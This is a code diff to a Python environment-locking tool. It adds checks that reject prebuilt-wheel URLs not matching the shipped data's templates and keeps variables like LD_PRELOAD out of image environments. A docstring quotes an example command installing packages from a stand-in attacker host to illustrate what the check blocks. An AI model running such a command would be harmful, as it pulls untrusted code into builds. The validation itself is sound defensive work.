@@ -44,8 +44,8 @@ from ..spec import is_name, package_problem
 from ..tables import Check, TableReader, at, parse_toml, strings, word
 from ..versions import PACKAGE_NAME, parse_arch, parse_dotted, parse_driver
 
-if TYPE_CHECKING:  # the data's extension rows: loaded only for a lock whose extensions have build settings
-    from ..data import Extension
+if TYPE_CHECKING:  # the data's extension rows: loaded only for a lock whose extensions have build settings or wheels
+    from ..data import Extension, ExtensionWheel, Matrices
     from ..solve.extensions import BuildRules
 
 __all__ = ["FORMAT", "HEADER", "Environment", "GpuModel", "Lock", "Package", "Scope", "build", "build_problems",
@@ -375,24 +375,44 @@ def _extension_to_dict(x: ExtensionPin) -> dict[str, Any]:
 
 
 def data_build_rules() -> Callable[[str], BuildRules]:
-    """Each package's closed lists of its source builds, as the shipped data's rows name them
-    (:func:`envsolve.solve.extensions.build_rules`); the data is loaded on the first question, so a
-    lock without build settings never loads it."""
+    """Each package's closed lists of its source builds and its prebuilt wheels' URLs, as the
+    shipped data's rows name them (:func:`envsolve.solve.extensions.build_rules`); the data is
+    loaded on the first question, so a lock without build settings or prebuilt wheels never loads it."""
     by_package: dict[str, BuildRules] = {}
 
     def rules(package: str) -> BuildRules:
         from ..solve.extensions import build_rules
 
         if not by_package:
-            from ..data import load
-
             rows: dict[str, list[Extension]] = {}
-            for row in load().extensions:
-                rows.setdefault(row.package, []).append(row)
-            by_package.update({name: build_rules(of) for name, of in rows.items()})
+            wheels: dict[str, list[ExtensionWheel]] = {}
+            for m in _data_in_effect():
+                for row in m.extensions:
+                    rows.setdefault(row.package, []).append(row)
+                for wheel in m.extension_wheels:
+                    wheels.setdefault(wheel.package, []).append(wheel)
+            by_package.update({name: build_rules(rows.get(name, ()), wheels.get(name, ()))
+                               for name in {*rows, *wheels}})
         return by_package.get(package) or build_rules(())
 
     return rules
+
+
+def _data_in_effect() -> list[Matrices]:
+    """The shipped data, and the matrices ``ENVSOLVE_MATRICES`` names (a lock made with them holds
+    their rows' settings and wheel URLs); a folder that cannot be read adds nothing."""
+    import os
+
+    from ..data import load
+    from ..errors import EnvsolveError
+
+    found = [load()]
+    if own := os.environ.get("ENVSOLVE_MATRICES"):
+        try:
+            found.append(load(Path(own)))
+        except (EnvsolveError, OSError):  # the command that reads them says what is wrong
+            pass
+    return found
 
 
 def _outside(key: str, values: tuple[str, ...], allowed: tuple[str, ...], what: str) -> list[tuple[str, str]]:
@@ -406,17 +426,51 @@ def build_problems(x: ExtensionPin, rules: Callable[[str], BuildRules]) -> list[
     """(key, why) for each value of extension entry ``x`` outside its package's closed lists in the
     data (``rules``): the variable its build reads for the arch list, the shape of that list, its
     settings, what it installs first and what it builds. A variable no row names (PATH,
-    LD_PRELOAD, HTTPS_PROXY) never reaches an image's ENV."""
-    if not (x.build_env or x.build_archs or x.build_vars or x.build_requires or x.build_from):
+    LD_PRELOAD, HTTPS_PROXY) never reaches an image's ENV. And a prebuilt wheel's URL (install
+    "github" or "pyg") that none of the package's ``[[wheel]]`` rows gives: no other host's wheels
+    reach an image (``pip install --find-links https://evil.example/``)."""
+    wheel = x.install in _WHEEL_INSTALLS
+    built = bool(x.build_env or x.build_archs or x.build_vars or x.build_requires or x.build_from)
+    if not (wheel or built):
         return []
     allowed = rules(x.name)
-    found = _arch_problems(x, allowed)
+    found = []
+    if wheel and built:  # the solve writes a build's settings for a source build alone: the install is forged
+        found.append(("install", f"= {x.install!r} installs a prebuilt wheel, but the entry holds a source build's "
+                                 "settings (build_*)"))
+    found += _url_problems(x, allowed) if wheel else []
+    found += _arch_problems(x, allowed)
     found += _outside("build_vars", x.build_vars, allowed.settings, f"a setting of {x.name}'s build")
     found += _outside("build_requires", x.build_requires, allowed.requires, f"what {x.name}'s build installs first")
     if x.build_from not in allowed.build_from:
         found.append(("build_from", f"= {x.build_from!r} is not how {x.name} is built (the data has: "
                                     f"{', '.join(repr(f) for f in allowed.build_from if f) or 'none'})"))
     return found
+
+
+_WHEEL_INSTALLS = {"github": False, "pyg": True}  # install -> the [[wheel]] rows' ``page`` it comes from
+# what a {placeholder} of a [[wheel]] URL may be filled with: a name, never a "/" (nor "." or "..")
+_FILLED = "[A-Za-z0-9_+-][A-Za-z0-9._+-]*"
+
+
+def _url_problems(x: ExtensionPin, allowed: BuildRules) -> list[tuple[str, str]]:
+    """The URL of a prebuilt wheel (a GitHub release's) or of its page (PyG's) that none of the
+    package's ``[[wheel]]`` rows gives (its {version} the entry's own)."""
+    page = _WHEEL_INSTALLS[x.install]
+    templates = [url for url, is_page in allowed.urls if is_page == page]
+    if any(_fills(template, x.url, x.version) for template in templates):
+        return []
+    what = "PyG's wheel page" if page else "a GitHub release wheel"
+    return [("url", f"= {x.url!r} is not {what} of {x.name} {x.version} as the data gives it (the data has: "
+                    f"{', '.join(repr(t) for t in templates) or 'none'})")]
+
+
+def _fills(template: str, url: str, version: str) -> bool:
+    """Whether ``url`` is the [[wheel]] URL ``template`` filled in, {version} with ``version``."""
+    parts = re.split(r"\{(\w+)\}", template)  # literal, placeholder, literal, ...
+    pattern = "".join(re.escape(part) if k % 2 == 0 else re.escape(version) if part == "version" else _FILLED
+                      for k, part in enumerate(parts))
+    return re.fullmatch(pattern, url) is not None
 
 
 def _arch_problems(x: ExtensionPin, allowed: BuildRules) -> list[tuple[str, str]]:
